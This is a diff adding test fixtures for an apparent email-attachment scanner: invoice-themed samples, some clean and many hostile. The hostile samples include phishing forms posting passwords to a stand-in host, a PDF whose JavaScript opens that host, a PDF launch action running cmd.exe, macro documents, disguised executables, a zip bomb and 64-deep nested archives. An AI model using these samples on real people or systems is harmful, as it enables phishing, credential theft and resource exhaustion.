@@ -166,3 +166,110 @@ with_attachment("attach-html", "connexion.html",
                 b"<html><form action='https://evil.example.net/'>password</form></html>",
                 "text/html")
 with_attachment("attach-iso", "facture.iso", b"\x00" * 64, "application/octet-stream")
+
+# Attachments read inside: archives walked recursively, Office and PDF files parsed
+# (tests/data/documents.py builds the bytes).
+import sys
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..",
+                                "data"))
+import documents as D  # noqa: E402
+
+RIB_LINES = ["RELEVE D'IDENTITE BANCAIRE", "Titulaire : Fournisseur SARL",
+             "IBAN : " + grouped(FR_IBAN), "BIC : AGRIFRPP882"]
+ZIP = "application/zip"
+PDF_TYPE = "application/pdf"
+with_attachment("attach-zip-zip-exe", "documents.zip",
+                D.zip_of({"factures/facture-2026.zip": D.zip_of({"facture.exe": D.PE})}), ZIP)
+with_attachment("attach-zip-iso", "scan.zip",
+                D.zip_of({"scan.iso": D.iso_of({"scan.exe": D.PE})}), ZIP)
+with_attachment("attach-zip-html", "facture.zip",
+                D.zip_of({"facture.html": "<html><form action='https://evil.example.net/'>"
+                                          "<input type=password></form></html>"}), ZIP)
+with_attachment("attach-zip-docm", "commande.zip",
+                D.zip_of({"commande.docm": D.docx(["Bon de commande"], vba=True)}), ZIP)
+with_attachment("attach-exe-gz", "facture.exe.gz", D.gz("facture.exe", D.PE),
+                "application/gzip")
+with_attachment("attach-doc-vba", "facture.doc", D.legacy_doc(vba=True), "application/msword")
+with_attachment("attach-doc-clean", "courrier.doc", D.legacy_doc(), "application/msword")
+with_attachment("attach-xls-vba", "tarifs.xls", D.legacy_xls(vba=True),
+                "application/vnd.ms-excel")
+with_attachment("attach-doc-encrypted", "contrat.doc", D.legacy_doc(encrypted=True),
+                "application/msword")
+with_attachment("attach-onenote", "facture.one", D.onenote(), "application/onenote")
+with_attachment("attach-onenote-pe", "document.one", D.onenote(D.PE), "application/onenote")
+with_attachment("attach-onenote-renamed", "facture.pdf", D.onenote(), PDF_TYPE)
+with_attachment("attach-pdf-openaction-js", "facture.pdf",
+                D.text_pdf(["Facture 2026-114"],
+                           "/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://evil"
+                           ".example.net/'\\)) >> "), PDF_TYPE)
+with_attachment("attach-pdf-js-escaped", "facture.pdf",
+                D.text_pdf(["Facture"], "/OpenAction << /S /J#61vaScript /J#53 (this.print"
+                           "\\(\\)) >> "), PDF_TYPE)
+with_attachment("attach-pdf-launch", "facture.pdf",
+                D.text_pdf(["Facture"], "", "/Annots [6 0 R] ",
+                           ["<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch "
+                            "/F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"]), PDF_TYPE)
+with_attachment("attach-pdf-embedded-exe", "facture.pdf",
+                D.text_pdf(["Facture"], "/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R]"
+                           " >> >> ",
+                           extra_objects=["<< /Type /Filespec /F (setup.exe) /UF (setup.exe) "
+                                          "/EF << /F 7 0 R >> >>",
+                                          b"<< /Type /EmbeddedFile /Length %d >>\nstream\n"
+                                          % len(D.PE) + D.PE + b"\nendstream"]), PDF_TYPE)
+FACTURX = b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact"/>'
+with_attachment("attach-pdf-facturx", "facture-2026-114.pdf",
+                D.text_pdf(RIB_LINES, "/Names << /EmbeddedFiles << /Names [(factur-x.xml) 6 0 R]"
+                           " >> >> /AF [6 0 R] ",
+                           extra_objects=["<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) "
+                                          "/AFRelationship /Data /EF << /F 7 0 R >> >>",
+                                          b"<< /Type /EmbeddedFile /Subtype /text#2Fxml "
+                                          b"/Length %d >>\nstream\n" % len(FACTURX) + FACTURX
+                                          + b"\nendstream"]), PDF_TYPE)
+with_attachment("attach-pdf-signed", "contrat-signe.pdf",
+                D.text_pdf(["Contrat de prestation", "Signe electroniquement"],
+                           "/AcroForm << /Fields [6 0 R] /SigFlags 3 >> ",
+                           extra_objects=["<< /FT /Sig /T (Signature1) /V 7 0 R /Type /Annot "
+                                          "/Subtype /Widget /Rect [0 0 0 0] /P 3 0 R >>",
+                                          "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter "
+                                          "/adbe.pkcs7.detached /ByteRange [0 100 200 300] "
+                                          "/Contents <3082> >>"]), PDF_TYPE)
+with_attachment("attach-exe-as-pdf", "facture.pdf", D.PE, PDF_TYPE)
+with_attachment("attach-html-as-pdf", "facture.pdf",
+                b"<!DOCTYPE html><html><head><title>Facture</title></head><body><form "
+                b"action='https://evil.example.net/'><input type=password></form></body></html>",
+                PDF_TYPE)
+with_attachment("attach-zip-as-pdf", "facture.pdf", D.zip_of({"facture.js": "WScript.Echo(1)"}),
+                PDF_TYPE)
+with_attachment("attach-html-as-xls", "export-ventes.xls",
+                b"<html><head><meta charset='utf-8'></head><body><table><tr><td>Client</td>"
+                b"<td>Total</td></tr><tr><td>Dupont</td><td>120</td></tr></table></body></html>",
+                "application/vnd.ms-excel")
+with_attachment("attach-rib-pdf", "RIB.pdf", D.text_pdf(RIB_LINES), PDF_TYPE)
+with_attachment("attach-rib-docx", "coordonnees.docx",
+                D.docx(["Coordonnees bancaires"], footer="IBAN " + grouped(FR_IBAN)),
+                "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
+with_attachment("attach-rib-odt", "rib.odt", D.odt(RIB_LINES),
+                "application/vnd.oasis.opendocument.text")
+with_attachment("attach-rib-in-zip", "documents.zip", D.zip_of({"RIB.pdf": D.text_pdf(RIB_LINES)}),
+                ZIP)
+with_attachment("attach-pdf-damaged", "facture.pdf", b"%PDF-1.4\n" + b"\x00garbage" * 64,
+                PDF_TYPE)
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x11" * 200
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64
+with_attachment("attach-zip-photos", "photos-chantier.zip",
+                D.zip_of({"IMG_2041.jpg": JPEG, "IMG_2042.jpg": JPEG, "plan.png": PNG},
+                         zipfile.ZIP_STORED), ZIP)
+with_attachment("attach-ics", "invitation.ics",
+                b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//EN\r\nMETHOD:REQUEST\r\n"
+                b"BEGIN:VEVENT\r\nUID:1@example.com\r\nDTSTART:20261130T090000Z\r\n"
+                b"SUMMARY:Point mensuel\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", "text/calendar")
+with_attachment("attach-docx-clean", "contrat.docx", D.docx(["Contrat de maintenance"]),
+                "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
+# Hostile: a zip of 64 MiB of zeros (deflate's 1,000:1) with a document's name, so that it
+# is read until the budget stops it; archives nested 64 deep around a program.
+with_attachment("attach-zip-bomb", "factures.zip", D.zip_of({"facture.pdf": b"\0" * (64 << 20)}),
+                ZIP)
+nested = D.PE
+for level in range(64):
+    nested = D.zip_of({"facture.exe" if level == 0 else "niveau%d.zip" % level: nested})
+with_attachment("attach-zip-nested-64", "factures.zip", nested, ZIP)
